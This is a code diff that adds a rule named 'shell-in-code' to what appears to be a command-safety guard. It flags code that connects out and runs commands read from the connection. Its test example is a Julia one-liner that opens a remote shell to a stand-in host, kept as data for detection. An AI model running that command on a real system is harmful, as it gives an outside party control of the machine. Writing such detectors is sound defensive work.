@@ -49,6 +49,27 @@ def shell_handed_over(effects: Sequence[Effect], context: Context) -> Effect | N
 
 
 @line_rule(
+    "shell-in-code",
+    HIGH,
+    reason="connects, and starts programs, in code that this guard can't follow in full",
+    why="This is how a shell is handed to somebody else: code takes its orders from the connection.",
+    instead="save it to a file, read it, then run the file",
+    match=[
+        ("julia -e 's = connect(\"x.example\", 9); run(`$(readline(s))`)'", "unread-inline-code", "network-connects"),
+    ],
+    not_match=["julia -e 'run(`$x`)'", "julia -e 's = connect(\"x.example\", 9); println(s)'"],
+)
+def shell_in_code(effects: Sequence[Effect], context: Context) -> Effect | None:
+    unread = [e for e in effects if e.kind == "unknown" and {"language", "capable"} <= e.flags]
+    for effect in unread:
+        for other in effects:
+            raw = other.kind in ("connect", "listen") and "unauthenticated" in other.flags
+            if raw and (other.program, other.via) == (effect.program, effect.via):
+                return effect
+    return None
+
+
+@line_rule(
     "shell-planted",
     HIGH,
     reason="writes {target}, which starts a shell, and then runs a program that may read it",
